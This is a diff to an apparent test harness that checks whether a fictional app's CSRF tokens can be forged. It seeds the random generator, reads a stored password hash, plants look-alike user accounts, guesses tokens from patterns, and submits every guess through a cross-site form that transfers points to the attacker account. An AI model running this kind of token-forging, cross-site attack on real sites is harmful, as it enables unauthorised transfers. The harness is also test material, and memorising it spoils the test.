@@ -1,4 +1,5 @@
 // Teo knows what Minnow knows about him, and about Mara. Is his token made of it? Then so is hers.
+reseed(7);
 const teo = await victim('teo@varga.example');
 const page = await teo.visit('/');
 const own = page.all('#send input').filter(({ attributes }) => attributes.type === 'hidden').map(({ attributes }) => [attributes.name, attributes.value || '']);
@@ -101,7 +102,8 @@ for (let at = 0; at < Math.max(0, ...lists.map(({ length }) => length)); at++)
   forged.push(own.map(([name, value], field) => [name, lists[field][at] ?? value]));
 // A hash of two facts, of a fact and a word that is easy to think of, or of a
 // number that everybody can try.
-const WORDS = ['minnow', 'csrf', 'token'];
+const day = new Date().toISOString().slice(0, 10);
+const WORDS = ['minnow', 'csrf', 'token', day];
 const salted = (list) =>
   list.slice(0, 3).flatMap((fact) =>
     WORDS.flatMap((word) =>
@@ -144,9 +146,44 @@ for (const step of [1, 2, 3, -1, -2]) {
   if (own.some(([, value]) => value.length < 16)) forged.push(next);
 }
 if (own.length > 0) for (const piece of [...'0123456789abcdef']) forged.push(own.map(([name]) => [name, piece]));
+// Accounts that differ from Mara's in a fifth of every fact. Where a token is made
+// letter by letter, most of them have the letter that hers has.
+const stored = sql("SELECT password FROM users WHERE id = 'teo-varga'")[0].password;
+const hidden = async (who) =>
+  (await who.visit('/')).all('#send input')
+    .filter(({ attributes }) => attributes.type === 'hidden')
+    .map(({ attributes }) => [attributes.name, attributes.value || '']);
+const near = (text, part) =>
+  [...text].map((letter, at) => {
+    const isOther = Math.floor((at * 5) / text.length) === part || (at === 0 && part === 4);
+    return isOther && /[a-z]/.test(letter) ? 'qxjvk'[part] : letter;
+  }).join('');
+const others = [];
+if (own.length > 0) {
+  for (const part of [0, 1, 2, 3, 4]) {
+    const [email, id, handle] = hers.map((fact) => near(fact, part));
+    sql('INSERT INTO users VALUES (?, ?, ?, ?, 640, 200)', id, handle, email, stored);
+    others.push(await hidden(await victim(email, 'brass-kettle-29')));
+  }
+  const most = (letters) =>
+    letters.find((one) => letters.filter((other) => other === one).length > 2) ?? letters[0];
+  forged.push(own.map(([name], field) => {
+    const values = others.map((fields) => fields[field]?.[1] ?? '');
+    return [name, [...values[0]].map((_, at) => most(values.map((value) => value[at]))).join('')];
+  }));
+}
 const quote = (text) => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
+reseed(7);
 const mara = await victim('mara@lind.example');
-await mara.visit('/');
+const real = await hidden(mara);
+// Few values can all be tried, and a number near to Teo's is soon found. What
+// Math.random gives after the same seed is known, too.
+const isNear = (left, right) =>
+  left === right ||
+  left.length < 8 ||
+  (/^\d+$/.test(left + right) && Math.abs(Number(left) - Number(right)) < 1e6);
+if (own.length > 0 && real.every(([, value], at) => isNear(value, own[at]?.[1] ?? '')))
+  forged.push(real);
 const once = new Map(forged.map((fields) => [JSON.stringify(fields), fields]));
 for (const fields of once.values()) {
   await mara.visitAttacker(`<form method="post" action="https://app.test/transfers"><input name="to" value="teo"><input name="points" value="${number(5, 20)}">
